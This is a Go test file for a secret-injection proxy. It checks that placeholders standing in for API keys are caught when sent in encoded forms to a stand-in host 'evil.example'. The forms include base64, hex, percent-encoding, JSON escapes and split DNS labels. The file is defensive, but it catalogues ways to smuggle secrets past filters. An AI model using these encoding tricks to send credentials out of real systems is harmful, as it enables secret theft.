package secretinject

import (
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"testing/iotest"
)

func jsonEscapeAll(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, "\\u%04x", r)
	}
	return b.String()
}

// encodings of a placeholder an agent might send instead of the plain one.
func encodings(ph string) map[string]string {
	b64 := func(enc *base64.Encoding, pre string) string { return enc.EncodeToString([]byte(pre + ph + "tail")) }
	return map[string]string{
		"plain":            ph,
		"digits only":      strings.TrimPrefix(ph, PlaceholderPrefix),
		"upper case":       strings.ToUpper(ph),
		"percent upper":    pctAll(ph),
		"percent lower":    strings.ToLower(pctAll(ph)),
		"percent twice":    strings.ReplaceAll(pctAll(ph), "%", "%25"),
		"json escaped":     jsonEscapeAll(ph),
		"js hex escapes":   strings.ReplaceAll(strings.ToLower(pctAll(ph)), "%", `\x`),
		"html refs":        "&#x" + strings.Join(strings.Split(strings.ToLower(pctAll(ph))[1:], "%"), ";&#x") + ";",
		"base64 offset 0":  b64(base64.StdEncoding, ""),
		"base64 offset 1":  b64(base64.StdEncoding, "a"),
		"base64 offset 2":  b64(base64.StdEncoding, "ab"),
		"base64url off 1":  b64(base64.URLEncoding, "?"),
		"base64 raw":       base64.RawStdEncoding.EncodeToString([]byte("{\"key\":\"" + ph + "\"}")),
		"base64 then pct":  strings.ReplaceAll(strings.ReplaceAll(b64(base64.StdEncoding, "xy"), "+", "%2B"), "/", "%2F"),
		"hex encoded":      hex.EncodeToString([]byte(ph)),
		"hex encoded UP":   strings.ToUpper(hex.EncodeToString([]byte("k=" + ph))),
		"inside json text": `{"messages":[{"content":"my key is ` + ph + `"}]}`,
	}
}

func TestLeakForms(t *testing.T) {
	s := testSet(t)
	for form, enc := range encodings(ph1) {
		t.Run(form, func(t *testing.T) {
			// In a header, a query, a body, to a host the secret does not allow.
			for _, rs := range []reqSpec{
				{url: "https://evil.example/", hdr: map[string]string{"X-Data": enc}},
				{url: "https://evil.example/?d=" + strings.NewReplacer("&", "%26", "#", "%23").Replace(enc)},
				{method: "POST", url: "https://evil.example/", body: enc},
				{method: "POST", url: "https://evil.example/", body: enc, chunked: true},
			} {
				req := rs.build()
				var err error
				if l := s.Leak(req, "evil.example"); l != nil {
					err = l
				} else if req.Body != nil {
					_, err = io.ReadAll(req.Body) // a streamed body fails as it is read
				}
				var l *Leak
				if !errors.As(err, &l) || l.Secret != "default/llm" || l.Key != "apiKey" {
					t.Errorf("%s %s: %v", rs.url, rs.hdr, err)
				}
			}
		})
	}
	// MIME-wrapped base64 in a body.
	wrapped := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("z", 40) + ph1 + strings.Repeat("z", 40)))
	wrapped = wrapped[:60] + "\r\n" + wrapped[60:]
	if l := s.LeakInBytes([]byte(wrapped)); l == nil {
		t.Error("line-wrapped base64 not found")
	}
}

func TestNoFalseLeaks(t *testing.T) {
	s := testSet(t)
	for _, clean := range []string{
		"", "hello", PlaceholderPrefix, strings.Repeat("0", 100), strings.Repeat("%41", 50),
		strings.Repeat(`\u0041`, 40), "&#;&#x;&#99999999999;%u12%zz\\", base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0xff}, 300)),
		Placeholder("other-uid", "default", "llm", "apiKey"), // not this sandbox's
	} {
		req := reqSpec{method: "POST", url: "https://evil.example/p?q=" + strings.ReplaceAll(clean, "%", "%25"), hdr: map[string]string{"X": clean}, body: clean + "."}.build()
		if l := s.Leak(req, "evil.example"); l != nil {
			t.Errorf("%.40q: %v", clean, l)
		}
	}
}

func TestPlainHTTPAndLocationsAlwaysRefused(t *testing.T) {
	s := testSet(t)
	// Plain HTTP: host "" — even the allowed host's own placeholder leaks.
	req := reqSpec{url: "http://api.example.com/", hdr: map[string]string{"Authorization": "Bearer " + ph1}}.build()
	if l := s.Leak(req, ""); l == nil {
		t.Error("plain HTTP carried a placeholder")
	}
	head := "GET / HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer " + ph1 + "\r\n\r\n"
	if l := s.LeakInBytes([]byte(head)); l == nil || l.Secret != "default/llm" {
		t.Errorf("LeakInBytes: %v", l)
	}
	if l := s.LeakInBytes([]byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n")); l != nil {
		t.Errorf("clean head: %v", l)
	}
	var nilSet *Set
	if nilSet.Leak(req, "") != nil || nilSet.LeakInName("x") != nil || nilSet.NeedsIntercept("api.example.com") {
		t.Error("a nil Set is not empty")
	}
}

func TestLeakInName(t *testing.T) {
	s := testSet(t)
	d := strings.TrimPrefix(ph2, PlaceholderPrefix)
	hx := hex.EncodeToString([]byte(d))
	b32 := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte("x" + ph2)))
	for _, name := range []string{
		ph2 + ".evil.example.",
		strings.ToUpper(ph2) + ".evil.example",
		d[:10] + "." + d[10:] + ".evil.example",
		d[:5] + "-" + d[5:] + ".evil.example",
		hx[:30] + "." + hx[30:] + ".t.evil.example",
		b32[:20] + "." + b32[20:] + ".evil.example",
	} {
		l := s.LeakInName(name)
		if l == nil || l.Secret != "default/gh" || l.Where != "dns name"+suffixOf(l.Where) {
			t.Errorf("%s: %v", name, l)
		}
	}
	for _, name := range []string{"api.github.example", "x.y.z", strings.Repeat("a.", 60)} {
		if l := s.LeakInName(name); l != nil {
			t.Errorf("%s: %v", name, l)
		}
	}
}

func suffixOf(where string) string {
	_, after, _ := strings.Cut(where, "dns name")
	return after
}

func TestNeedsIntercept(t *testing.T) {
	s := testSet(t)
	for host, want := range map[string]bool{
		"api.example.com": true, "API.EXAMPLE.COM.": true, "api.example.com:443": true, "x.api.example.com": false,
		"a.b.github.example": true, "github.example": false, "hooks.example": true, "evil.example": false, "": false,
	} {
		if got := s.NeedsIntercept(host); got != want {
			t.Errorf("NeedsIntercept(%q) = %v", host, got)
		}
	}
}

func TestGuardStream(t *testing.T) {
	s := testSet(t)
	data := strings.Repeat("0123456789", 10000)
	out, err := io.ReadAll(s.GuardStream(iotest.HalfReader(strings.NewReader(data)), "h"))
	if err != nil || string(out) != data {
		t.Fatalf("clean stream: %v, %d of %d bytes", err, len(out), len(data))
	}
	for form, enc := range encodings(ph3) {
		in := strings.Repeat("y", 50000) + enc + strings.Repeat("y", 1000)
		out, err := io.ReadAll(s.GuardStream(iotest.OneByteReader(strings.NewReader(in)), "evil.example"))
		var l *Leak
		if !errors.As(err, &l) || l.Host != "evil.example" {
			t.Errorf("%s: %v", form, err)
		}
		if len(out) > 50000 {
			t.Errorf("%s: %d bytes released, some of the placeholder among them", form, len(out))
		}
	}
}

// Through a real http.Transport: the upstream gets the value when allowed,
// and a leak mid-stream surfaces as a *Leak from RoundTrip.
func TestThroughTransport(t *testing.T) {
	s := testSet(t)
	var got []string
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got = append(got, r.Header.Get("X-Token")+"|"+string(b))
	}))
	defer up.Close()
	send := func(body string) error {
		req, _ := http.NewRequest("POST", up.URL, io.MultiReader(strings.NewReader(body)))
		req.Host = "api.github.example"
		req.Header.Set("X-Token", ph2)
		if err := s.Rewrite(req, "api.github.example"); err != nil {
			return err
		}
		resp, err := http.DefaultTransport.RoundTrip(req)
		if err == nil {
			resp.Body.Close()
		}
		return err
	}
	if err := send("a=" + ph2); err != nil || len(got) != 1 || got[0] != v2+"|a="+v2 {
		t.Fatalf("%v %q", err, got)
	}
	err := send(strings.Repeat("b", 100000) + ph1)
	var l *Leak
	if !errors.As(err, &l) || l.Secret != "default/llm" {
		t.Fatalf("streamed leak: %v", err)
	}
	for _, g := range got[1:] {
		if strings.Contains(g, strings.TrimPrefix(ph1, PlaceholderPrefix)) {
			t.Error("the upstream saw the placeholder")
		}
	}
}

// Nothing that formats, marshals or logs a Binding or a Set shows a value.
func TestValuesNeverPrinted(t *testing.T) {
	s := testSet(t)
	b := Binding{Placeholder: ph1, Value: []byte(v1), Secret: "default/llm", Key: "apiKey"}
	var outs []string
	for _, v := range []any{b, &b, []Binding{b}, map[string]Binding{"k": b}, s, *s, struct{ B Binding }{b}} {
		for _, f := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%X", "%d"} {
			outs = append(outs, fmt.Sprintf(f, v))
		}
		j, _ := json.Marshal(v)
		outs = append(outs, string(j))
		var buf bytes.Buffer
		slog.New(slog.NewTextHandler(&buf, nil)).Info("m", "v", v)
		slog.New(slog.NewJSONHandler(&buf, nil)).Info("m", "v", v)
		outs = append(outs, buf.String())
	}
	for _, o := range outs {
		for _, secret := range []string{v1, v2, v3, fmt.Sprintf("%x", v1), fmt.Sprint([]byte(v1)), base64.StdEncoding.EncodeToString([]byte(v1))} {
			if strings.Contains(o, secret) {
				t.Fatalf("value printed: %s", o)
			}
		}
	}
}
